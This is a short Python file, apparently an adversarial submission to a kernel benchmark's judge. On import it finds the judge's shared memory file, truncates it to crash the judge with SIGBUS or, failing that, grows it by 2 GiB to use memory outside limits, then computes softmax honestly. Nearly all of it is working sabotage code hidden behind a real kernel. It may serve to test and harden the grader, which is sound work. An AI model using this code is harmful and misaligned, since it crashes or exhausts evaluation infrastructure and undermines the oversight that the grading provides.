"""Shared memory: shrinks the judge's input memory (the memfd it shares) to zero bytes, so that the
judge's next touch of its own mapping dies of SIGBUS, or, failing that, grows it by 2 GiB written
past its end (memory outside any limit). Computes honestly otherwise."""
import os

import torch

KERNEL_TYPE = "softmax"

for name in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink("/proc/self/fd/" + name)
    except OSError:
        continue
    if "autokernel-arena" in target:
        fd = int(name)
        try:
            os.ftruncate(fd, 0)
        except OSError:
            try:
                end = os.fstat(fd).st_size
                os.ftruncate(fd, end + (2 << 30))
                os.pwrite(fd, b"x" * (1 << 20), end)
            except OSError:
                pass


def kernel_fn(x):
    return torch.softmax(x, dim=-1)
